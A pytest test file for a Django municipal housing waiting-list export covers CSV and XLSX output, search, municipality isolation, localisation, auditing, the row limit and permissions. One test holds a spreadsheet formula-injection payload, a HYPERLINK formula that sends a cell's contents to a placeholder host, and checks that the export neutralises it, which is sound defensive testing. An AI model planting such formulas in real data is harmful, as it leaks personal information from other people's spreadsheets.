"""The waiting list as CSV and XLSX: the whole ranking (with the page's search) of the
actor's municipality, in the user's language, formula-safe, audited."""

import csv
import io

import pytest
from django.test import override_settings
from django.urls import reverse
from openpyxl import load_workbook

from boligtorg.allocation.factories import granted_application, rule_set
from boligtorg.core.models import AuditAction, AuditEvent

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://x.invalid/?"&A2,"Klikk")'


def _csv_rows(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def _xlsx_rows(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_the_export_holds_the_whole_ranking_in_rank_order(
    english, kari, trondheim, rules_2000, single, family
):
    more = [granted_application(trondheim, kari) for _ in range(25)]
    english.force_login(kari)
    rows = _csv_rows(english.get(reverse("allocation:waiting_list_export")))
    assert rows[0] == [
        "Rank",
        "Case number",
        "Household",
        "Persons",
        "Waiting since",
        "Situation",
        "Points",
    ]
    assert [int(row[0]) for row in rows[1:]] == list(range(1, 28))
    assert {row[1] for row in rows[1:]} == {c.number for c in (single, family, *more)}
    # The single adult without a dwelling ranks before the family (as on the page).
    numbers = [row[1] for row in rows[1:]]
    assert numbers.index(single.number) < numbers.index(family.number)


def test_the_export_keeps_the_pages_search(client, kari, rules_2000, single, family):
    client.force_login(kari)
    rows = _csv_rows(client.get(reverse("allocation:waiting_list_export"), {"q": family.number}))
    assert [row[1] for row in rows[1:]] == [family.number]


def test_sven_in_skanderborg_exports_none_of_trondheims_households(
    client, sven, skanderborg, rules_2000, single, family
):
    rule_set(skanderborg)
    own = granted_application(skanderborg, sven)
    client.force_login(sven)
    for file_format, read in (("csv", _csv_rows), ("xlsx", _xlsx_rows)):
        rows = read(client.get(reverse("allocation:waiting_list_export"), {"format": file_format}))
        assert [row[1] for row in rows[1:]] == [own.number]


def test_a_bokmal_user_gets_bokmal_headings_and_file_name(client, kari, rules_2000, single):
    client.force_login(kari)
    response = client.get(reverse("allocation:waiting_list_export"), {"format": "xlsx"})
    header, row = _xlsx_rows(response)
    assert header == [
        "Plass",
        "Saksnummer",
        "Husstand",
        "Personer",
        "Venter siden",
        "Situasjon",
        "Poeng",
    ]
    assert row[5] == "Uten bolig"
    assert 'filename="venteliste-' in response["Content-Disposition"]


def test_the_export_is_audited_with_every_household_it_holds(
    client, kari, trondheim, rules_2000, single, family
):
    client.force_login(kari)
    client.get(reverse("allocation:waiting_list_export"), {"format": "xlsx"})
    event = AuditEvent.objects.get(action=AuditAction.EXPORT)
    assert (event.actor, event.municipality, event.object_repr) == (kari, trondheim, "waiting list")
    assert event.changes["query"] == {"format": "xlsx"}
    assert event.changes["ids"] == [str(single.pk), str(family.pk)]


def test_a_household_name_starting_with_an_equals_sign_is_inert(client, kari, rules_2000, single):
    single.applicant.first_name = ATTACK
    single.applicant.save()
    client.force_login(kari)
    [name] = [
        row[2] for row in _csv_rows(client.get(reverse("allocation:waiting_list_export")))[1:]
    ]
    assert name.startswith("'=")
    response = client.get(reverse("allocation:waiting_list_export"), {"format": "xlsx"})
    cell = load_workbook(io.BytesIO(response.content)).active.cell(row=2, column=3)
    assert (cell.data_type, cell.quotePrefix) == ("s", True)


@override_settings(BOLIGTORG_EXPORT_MAX_ROWS=1)
def test_over_the_limit_the_user_is_sent_back_with_a_message(
    english, kari, rules_2000, single, family
):
    english.force_login(kari)
    response = english.get(reverse("allocation:waiting_list_export"), follow=True)
    assert response.redirect_chain[0][0] == reverse("allocation:waiting_list")
    assert "More than 1 rows match" in response.content.decode()


def test_the_waiting_list_links_to_both_exports_with_its_search(english, kari, rules_2000, single):
    english.force_login(kari)
    html = english.get(reverse("allocation:waiting_list"), {"q": "Hansen"}).content.decode()
    assert f"{reverse('allocation:waiting_list_export')}?q=Hansen&amp;format=csv" in html
    assert f"{reverse('allocation:waiting_list_export')}?q=Hansen&amp;format=xlsx" in html


def test_roles_that_may_not_read_the_waiting_list_may_not_export_it(client, trondheim):
    from boligtorg.core.factories import member
    from boligtorg.core.models import Role

    planner = member("pia", trondheim, Role.PLANNER)
    client.force_login(planner)
    assert client.get(reverse("allocation:waiting_list_export")).status_code == 403
